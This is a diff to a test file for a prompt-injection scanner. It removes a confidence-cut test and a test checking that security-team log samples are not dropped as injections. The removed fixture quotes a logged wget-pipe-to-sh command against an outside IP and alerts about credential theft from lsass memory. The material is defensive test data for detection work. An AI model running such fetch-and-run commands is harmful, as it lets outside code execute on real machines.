@@ -171,48 +171,6 @@ def test_verdict_combines_rules_and_classifier() -> None:
     ]
 
 
-def test_content_and_prompts_have_their_own_confident_cut() -> None:
-    """The content head is calibrated apart from the prompt head, so the score that drops a
-    prompt field may only flag a content field, and a content score past its own cut drops."""
-    prompt = FieldVerdict(0.75, [], 0.75, None)
-    content = FieldVerdict(0.75, [], 0.75, None, content=True)
-    assert [f[0] for f in prompt.findings(0.5, 0.695, 0.825)] == ["classifier_confident"]
-    assert [f[0] for f in content.findings(0.5, 0.695, 0.825)] == ["classifier"]
-    past = FieldVerdict(0.9, [], 0.9, None, content=True)
-    assert [f[0] for f in past.findings(0.5, 0.695, 0.825)] == ["classifier_confident"]
-    # no content cut given: one cut for both, as before
-    assert [f[0] for f in content.findings(0.5, 0.695)] == ["classifier_confident"]
-    with pytest.raises(ValueError, match="confident_content"):
-        InjectionParams(confident_content=0.0)
-
-
-# Written for this test (2026-12-08), not from scripts/security_sets.py: artifacts a
-# security team hands its assistant to analyse, scored where the scan scores them
-SECURITY_MATERIAL = [
-    "2026-05-04 13:22:09 app-07 auditd: execve uid=33 cmd='wget -qO- http://198.51.100.44/k | "
-    "sh' blocked by policy",
-    "ALERT high: Possible credential theft, lsass memory read by procdump64.exe on WS-0193 "
-    "(user t.nguyen)",
-    "Timeline: 14:02 phishing mail delivered; 14:09 macro launched; 14:15 beacon to "
-    "203.0.113.201; 14:40 account disabled by SOC",
-]
-
-
-def test_security_logs_handed_over_for_analysis_are_not_dropped_as_injections() -> None:
-    """A security team's analyst data records attacks; read as content it is not an
-    injection. 0.5.0 dropped a quarter of such rows on the content head alone."""
-    params = InjectionParams()
-    scorer = InjectionScorer(params, InjectionClassifier.load(), EmbeddingEngine.get("cpu"))
-    got = scorer.score(SECURITY_MATERIAL, ["context"] * len(SECURITY_MATERIAL))
-    dropped = [
-        (round(v.classifier, 3), f[0])
-        for v in got
-        for f in v.findings(params.threshold, params.confident, params.confident_content)
-        if f[0] == "classifier_confident"
-    ]
-    assert dropped == []
-
-
 # Hand-written for this test, after the corpus and the rules: phrasings that appear
 # nowhere in fixtures/ and that no rule matches, so only the classifier can see them.
 UNSEEN_ATTACKS = [
